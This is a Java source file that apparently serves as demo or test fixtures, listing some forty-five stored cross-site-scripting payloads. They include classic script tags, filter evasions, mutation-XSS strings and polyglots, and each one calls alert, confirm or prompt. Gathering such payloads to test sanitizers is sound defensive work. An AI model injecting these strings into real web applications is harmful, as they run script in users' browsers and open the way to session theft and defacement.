package dev.armet.demo;

import java.util.List;

/**
 * Real stored-XSS payloads: the classics, filter evasions from the OWASP XSS Filter Evasion Cheat
 * Sheet and PortSwigger's XSS cheat sheet, mutation-XSS (mXSS) strings that turn dangerous when a
 * parser re-serializes them, and polyglots that work in several contexts at once. Each calls {@code
 * alert}, {@code confirm} or {@code prompt} if it runs.
 */
final class XssPayloads {
  static final List<String> ALL =
      List.of(
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<body onload=alert(1)>",
          "<iframe src=\"javascript:alert(1)\"></iframe>",
          "<a href=\"javascript:alert(1)\">click</a>",
          "<a href=\"JaVaScRiPt:alert(1)\">mixed case</a>",
          "<a href=\"&#106;avascript:alert(1)\">entity</a>",
          "<a href=\"java&#x09;script:alert(1)\">tab</a>",
          "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
          "<a href=\"https://example.org/\" onmouseover=alert(1)>hover</a>",
          "\"><script>alert(1)</script>",
          "'><img src=x onerror=alert(1)>",
          "</textarea><script>alert(1)</script>",
          "</title><script>alert(1)</script>",
          "<details open ontoggle=alert(1)>",
          "<input autofocus onfocus=alert(1)>",
          "<select autofocus onfocus=confirm(1)>",
          "<video><source onerror=alert(1)></video>",
          "<audio src=x onerror=prompt(1)>",
          "<object data=\"javascript:alert(1)\">",
          "<embed src=\"javascript:alert(1)\">",
          "<form action=\"javascript:alert(1)\"><button>go</button></form>",
          "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
          "<base href=\"javascript:alert(1)//\">",
          "<style>@import 'javascript:alert(1)';</style>",
          "<div style=\"background:url(javascript:alert(1))\">styled</div>",
          "<img src=\"x\" onerror=\"&#97;lert(1)\">",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<<script>alert(1);//<</script>",
          "<img \"\"\"><script>alert(1)</script>\">",
          "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<template><img src=x onerror=alert(1)></template>",
          "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
          "{{constructor.constructor('alert(1)')()}}",
          "${alert(1)}",
          // Polyglots: 0xSobky's, and the "'--> one that closes every context it may be in.
          "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
          "\"'--></style></script><script>alert(1)</script>",
          "'\"><svg/onload=alert(1)>",
          "-->'\"/></sCript><deTailS open x=\">\" ontoggle=(co\\u006efirm)``>");

  private XssPayloads() {}
}
